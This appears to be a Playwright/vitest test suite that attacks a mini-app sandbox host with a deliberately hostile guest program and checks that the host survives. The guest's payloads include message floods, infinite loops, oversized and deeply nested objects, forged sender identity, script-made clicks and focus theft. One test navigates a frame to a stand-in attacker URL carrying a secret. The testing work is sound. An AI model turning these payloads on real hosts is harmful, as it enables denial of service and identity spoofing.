// Hostile programs and hostile views against the real shell and host. Numbers are the attack list's.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Frame } from 'playwright-core';
import { startRealm } from './harness.ts';
import type { RealmHarness } from './harness.ts';
import { command, crashOf, logged, logs, tapFront } from './steps.ts';

let realm: RealmHarness;

const M = 'wxmalicious1';
const B = 'wxhonest0001';

/** Longest pause of the host's timers an attack may cause. Measured at 60–200 ms; the machine may be busy. */
const GAP_MS = 1000;

const COMMANDS = {
  unknownNames: 0,
  objects: 1,
  flood: 2,
  spin: 3,
  monster: 4,
  dag: 5,
  deep: 6,
  rate: 7,
  forgedJump: 8,
  envelopes: 9,
  oversize: 10,
  pacedFlood: 11,
} as const;

const CODE = `
const named = (error) => error.code;
const monster = () => { const o = {}; for (let i = 0; i < 1e6; i++) o['k' + i] = i; return o; };
guest.commands = [
  () => Promise.all(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'Screen.set', 'screen.set ', 'debug.eval', '']
    .map((api) => guest.call(api).then(() => 'answered', named)).slice(0, 7)),
  () => { for (let i = 0; i < 60; i++) guest.raw({ i }); },
  () => { for (let i = 0; i < 200000; i++) guest.raw('{"id":0,"api":"app.log","args":{}}'); },
  () => { for (;;); },
  () => { guest.raw(monster()); guest.raw(new Map([[1, monster()]])); guest.raw(new ArrayBuffer(1e8)); },
  () => { let dag = []; for (let i = 0; i < 28; i++) dag = [dag, dag]; guest.raw(dag); const sparse = []; sparse.length = 3e7; guest.raw(sparse); },
  () => guest.raw('['.repeat(200000)),
  async () => {
    const calls = [];
    for (let i = 0; i < 420; i++) calls.push(guest.call('app.started').then(() => 'ok', named));
    const results = await Promise.all(calls);
    await new Promise((done) => setTimeout(done, 1500));
    return [results.includes('rate-limited'), results.length, await guest.call('app.started')];
  },
  () => new Promise((resolve) => {
    guest.tap = () => {
      guest.tap = undefined;
      const lie = { appId: '${B}', from: '${B}', source: 'host', instanceId: 'i1' };
      guest.raw(JSON.stringify({ id: 777777, api: 'nav.open', ...lie, args: { appId: '${B}', referrerInfo: { appId: 'wxlie000001' }, scene: 1001, extraData: { referrerInfo: { appId: 'wxlie000001' } }, path: 'pages/index?referrerInfo=x' } }));
      resolve('sent');
    };
  }),
  async () => {
    for (const text of ['', '[]', 'null', '{"id":"1","api":"a"}', '{"id":1e999,"api":"a"}', '{"id":1,"id":2}', '{"id":1,"api":"\\ud800"}', '{"id":1,"api":"app.started","args":null}', '~1:2/3:x', '{'])
      guest.raw(text);
    return guest.call('app.started');
  },
  () => guest.raw('x'.repeat(300000)),
  () => { setInterval(() => { for (let i = 0; i < 50; i++) guest.raw('{"id":0,"api":"app.started"}'); }, 50); },
];
guest.tapped = () => guest.call('nav.open', { appId: '${B}' }).then(() => guest.log('opened'), (error) => guest.log('refused', error.data && error.data.code));
guest.tap = guest.tapped;
`;

beforeAll(async () => {
  realm = await startRealm([
    { appId: M, lists: [B], code: CODE },
    { appId: B, code: 'guest.commands = [() => "fine"];' },
  ]);
});
afterAll(() => realm?.close());
beforeEach(async () => {
  await realm.reload();
  await realm.page.evaluate((appId) => window.host.open({ appId }), M);
  await realm.page.evaluate(() => (window.gap = 0));
});

const gap = (): Promise<number> => realm.page.evaluate(() => window.gap);
const run = (name: keyof typeof COMMANDS): Promise<unknown[]> => command(realm, M, COMMANDS[name]);
const shout = (name: keyof typeof COMMANDS): Promise<void> =>
  realm.page.evaluate((index) => window.ui.front?.actions.tabTap(index), COMMANDS[name]);
const alive = async (): Promise<void> => {
  expect(await run('envelopes')).toEqual(['done', COMMANDS.envelopes, null]);
};

/** The frame of the visible view of a program. */
const viewOf = async (appId: string): Promise<Frame> => {
  const label = await realm.label(appId);
  const src = await realm.page.evaluate(() => {
    const frame = window.ui.front?.state?.stack.at(-1)?.frame;
    const all = [...document.querySelectorAll('iframe')].filter((one) => one.src === frame?.src);
    return { src: frame?.src ?? '', index: frame ? all.indexOf(frame) : -1 };
  });
  const frames = realm.page.frames().filter((frame) => frame.url() === src.src);
  const found = frames[src.index];
  expect(src.src).toContain(label);
  if (!found) throw new Error('no view frame');
  return found;
};

/** Playwright's own evaluate counts as a user gesture; a hostile script is none. */
const clickByScript = async (view: Frame): Promise<void> => {
  const session = await realm.page.context().newCDPSession(view);
  const expression = "document.querySelector('button').click()";
  await session.send('Runtime.evaluate', { expression, userGesture: false });
  await session.detach();
};

describe('the broker', () => {
  it('knows no names but its own (41)', async () => {
    expect(await run('unknownNames')).toEqual(['done', 0, Array(7).fill('unsupported')]);
  });

  it('survives malformed envelopes (42)', alive);

  it('takes the identity from the port, whatever a message says (40, 60)', async () => {
    void run('forgedJump');
    await logged(realm, M, 'launch');
    await tapFront(realm);
    const [, entry] = await logged(realm, B, 'launch');
    expect(entry).toMatchObject({
      scene: 1037,
      referrerInfo: { appId: M, extraData: { referrerInfo: { appId: 'wxlie000001' } } },
      pageQuery: { referrerInfo: 'x' },
    });
  });
});

describe('availability', () => {
  it('ends a worker that sends objects, without reading one (31)', async () => {
    await shout('objects');
    expect(await crashOf(realm, M)).toBe('non-string flood');
    expect(await gap()).toBeLessThan(GAP_MS);
  });

  it('drops monsters in the shell (31, 33)', async () => {
    // Building them keeps the worker busy for seconds.
    await realm.page.evaluate(() => {
      window.answers.trouble = async () => 'wait';
    });
    await run('monster');
    await run('dag');
    await run('deep');
    await run('oversize');
    await alive();
    expect(await gap()).toBeLessThan(GAP_MS);
  });

  it('ends a burst and a paced flood (29)', async () => {
    await shout('flood');
    expect(await crashOf(realm, M)).toBe('flood');
    expect(await gap()).toBeLessThan(GAP_MS);
    await realm.reload();
    await realm.page.evaluate((appId) => window.host.open({ appId }), M);
    await shout('pacedFlood');
    expect(await crashOf(realm, M)).toBe('flood');
  });

  it('answers rate-limited calls, and the program recovers (30)', async () => {
    expect(await run('rate')).toEqual(['done', COMMANDS.rate, [true, 420, null]]);
  });

  it('asks about a worker that spins, and closes it at once (25)', async () => {
    await realm.page.evaluate(() => {
      window.answers.trouble = async (request) => {
        document.title = request.kind;
        return 'close';
      };
    });
    await shout('spin');
    await realm.page.waitForFunction(() => document.title === 'not-responding', null, {
      timeout: 10_000,
    });
    await realm.page.waitForFunction(() => window.ui.front === null);
    expect(await gap()).toBeLessThan(GAP_MS);
    // The host itself, and other programs, go on.
    await realm.page.evaluate((appId) => window.host.open({ appId }), B);
    expect(await command(realm, B, 0)).toEqual(['done', 0, 'fine']);
  });

  it('asks about a view that spins (26)', async () => {
    const view = await viewOf(M);
    await realm.page.evaluate(() => {
      window.answers.trouble = async (request) => {
        document.title = request.kind;
        return 'close';
      };
    });
    void view
      .evaluate(() => {
        for (;;);
      })
      .catch(() => undefined);
    await realm.page.waitForFunction(() => document.title === 'not-responding', null, {
      timeout: 10_000,
    });
    expect(await gap()).toBeLessThan(GAP_MS);
  });

  it('ends a view that floods the host window, and never reads what it says (32, 34)', async () => {
    const view = await viewOf(M);
    void view
      .evaluate(() => {
        const monster: Record<string, number> = {};
        for (let i = 0; i < 300_000; i++) monster[`k${i}`] = i;
        parent.postMessage(monster, '*');
        for (let i = 0; i < 5000; i++) parent.postMessage('', '*');
      })
      .catch(() => undefined);
    expect(await crashOf(realm, M)).toBe('window message flood');
    expect(await gap()).toBeLessThan(GAP_MS);
  });
});

describe('frames', () => {
  it('die when they load a second time (11, 47)', async () => {
    const view = await viewOf(M);
    await view.evaluate(() => location.reload()).catch(() => undefined);
    expect(await crashOf(realm, M)).toContain('frame navigated');
  });

  it('cannot leave their site (10)', async () => {
    const view = await viewOf(M);
    await view
      .evaluate(() => {
        location.href = 'http://attacker.example/?secret=1';
      })
      .catch(() => undefined);
    expect(await crashOf(realm, M)).toMatch(/navigate/);
  });

  it('ignore handshakes and pings of siblings (7, 46)', async () => {
    const view = await viewOf(M);
    await view.evaluate(() => {
      for (let i = 0; i < parent.frames.length; i++) {
        const { port1 } = new MessageChannel();
        parent.frames[i]?.postMessage(
          { k: 'boot', runtime: 'close()', code: '', launch: '{}' },
          '*',
          [port1],
        );
      }
    });
    await alive();
  });
});

describe('taps', () => {
  it('are not made by scripts (50), nor in the host (51)', async () => {
    const view = await viewOf(M);
    await clickByScript(view);
    expect(await logged(realm, M, 'refused')).toEqual(['refused', 'tap-required']);
    await realm.page.evaluate(() =>
      document.querySelector<HTMLElement>('#own')?.style.setProperty('margin-left', '500px'),
    );
    await realm.page.click('#own');
    await clickByScript(view);
    expect(await logged(realm, M, 'refused', 2)).toEqual(['refused', 'tap-required']);
  });

  it('are good for one jump (53)', async () => {
    await realm.page.evaluate(() => {
      window.answers.confirmJump = async () => false;
    });
    await tapFront(realm);
    expect(await logged(realm, M, 'refused')).toEqual(['refused', 'cancelled']);
    const view = await viewOf(M);
    await clickByScript(view);
    expect(await logged(realm, M, 'refused', 2)).toEqual(['refused', 'tap-required']);
  });
});

describe('host dialogs', () => {
  it('cost a frame its life when it takes their focus (63)', async () => {
    await realm.page.evaluate(() => {
      window.answers.confirmJump = (_, signal) =>
        new Promise((resolve) => {
          document.querySelector<HTMLElement>('#own')?.focus();
          signal.addEventListener('abort', () => resolve(false));
          document.title = 'asked';
        });
    });
    const view = await viewOf(M);
    await tapFront(realm);
    await realm.page.waitForFunction(() => document.title === 'asked');
    await view
      .evaluate(() => {
        window.focus();
        document.querySelector('button')?.focus();
      })
      .catch(() => undefined);
    expect(await crashOf(realm, M)).toContain('focus');
    expect((await logs(realm, B)).length).toBe(0);
  });
});
